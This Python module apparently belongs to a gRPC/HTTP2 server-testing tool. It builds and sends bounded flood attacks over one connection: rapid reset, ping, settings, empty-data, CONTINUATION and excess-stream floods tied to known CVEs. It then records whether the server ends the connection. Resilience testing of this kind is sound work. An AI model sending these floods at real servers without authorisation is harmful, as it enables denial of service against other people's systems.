"""Much of what is allowed, or nearly so: resets, pings, settings, streams. Each is bounded by its count."""

from __future__ import annotations

from collections.abc import Callable, Iterator

from assay.core.errors import AssayError, accepted
from assay.grpc.hostile import Shape
from assay.grpc.http2 import Header
from assay.grpc.probe import MAX_STREAMS, HostileAnswer, Probe, frame
from assay.grpc.settings import Endpoint

LARGEST = 20_000
_BATCH = 50
_STREAMS_UNSAID = 1000
_WAIT = 1.0
# Of pings one more tells nothing, and amid headers nothing else may come.
_NO_PING_AFTER = ("pings", "continuations")

Pieces = Callable[[tuple[Header, ...], int], Iterator[bytes]]


def _opened(headers: tuple[Header, ...], number: int) -> bytes:
    """The frame HEADERS of the call on its stream."""
    head = Shape(headers, b"").head()
    return head[:5] + (2 * number + 1).to_bytes(4, "big") + head[9:]


def _rapid_resets(headers: tuple[Header, ...], count: int) -> Iterator[bytes]:
    for number in range(count):
        yield _opened(headers, number) + frame(3, b"\0\0\0\x08", 0, 2 * number + 1)


def _streams(headers: tuple[Header, ...], count: int) -> Iterator[bytes]:
    for number in range(count):
        yield _opened(headers, number)


def _alike(octets: bytes) -> Pieces:
    return lambda headers, count: (octets for _ in range(count))


def _continuations(headers: tuple[Header, ...], count: int) -> Iterator[bytes]:
    yield _opened(headers, 0)[:4] + b"\0" + _opened(headers, 0)[5:]
    for number in range(count):
        name = b"x-%05d" % number
        yield frame(9, b"\x10" + bytes([len(name)]) + name + b"\x7f\x81\x07" + b"y" * 1024, 0, 1)


def _empty_data(headers: tuple[Header, ...], count: int) -> Iterator[bytes]:
    yield _opened(headers, 0)
    for _ in range(count):
        yield frame(0, b"", 0, 1)


FLOODS: dict[str, Pieces] = {
    "rapid resets": _rapid_resets,  # CVE-2023-44487
    "pings": _alike(frame(6, bytes(8))),  # CVE-2019-9512; gRPC A8, too_many_pings
    "settings": _alike(frame(4, b"\0\x04\0\0\xff\xff")),  # CVE-2019-9515
    "empty data": _empty_data,  # CVE-2019-9518
    "continuations": _continuations,  # CVE-2024-27316
    "streams": _streams,  # SETTINGS_MAX_CONCURRENT_STREAMS
}


def flood(
    endpoint: Endpoint, headers: tuple[Header, ...], kind: str, count: int, seconds: float
) -> HostileAnswer:
    """Sends one kind so many times on one connection, and returns what came back; `sent` of it is how many were sent.

    It stops as soon as the server ends the connection. At most 20000; 0 of the streams is one more than the server allows.
    """
    if kind not in FLOODS:
        raise AssayError(f"unknown flood '{kind}'{accepted(kind, FLOODS)}")
    if count > LARGEST or (count < 1 and kind != "streams"):
        raise AssayError(f"a flood has 1 to {LARGEST}, not {count}")
    probe = Probe(endpoint, seconds)
    try:
        probe.greet()
        probe.listen(seconds, lambda seen: bool(seen.settings))
        wanted = count or min(probe.seen.settings.get(MAX_STREAMS, _STREAMS_UNSAID) + 1, LARGEST)
        probe.seen.sent = _sent(probe, FLOODS[kind](headers, wanted), seconds)
        return probe.listen(min(seconds, _WAIT), _asked(probe, kind))
    finally:
        probe.close()


def _asked(probe: Probe, kind: str) -> Callable[[HostileAnswer], bool]:
    """When all is over: the server has said goodbye, or answered a PING that came after the flood."""
    before = probe.seen.pongs
    if kind in _NO_PING_AFTER:
        return lambda seen: bool(seen.goaway)
    probe.send(frame(6, b"assay..."))
    return lambda seen: bool(seen.goaway) or seen.pongs > before


def _sent(probe: Probe, pieces: Iterator[bytes], seconds: float) -> int:
    sent, batch = 0, list[bytes]()
    for piece in pieces:
        batch.append(piece)
        sent += 1
        if len(batch) == _BATCH:
            if not probe.send(b"".join(batch), seconds) or _told_off(probe):
                return sent
            batch.clear()
    probe.send(b"".join(batch), seconds)
    return sent


def _told_off(probe: Probe) -> bool:
    seen = probe.listen(0.002, lambda _: False)
    return seen.closed or bool(seen.goaway)
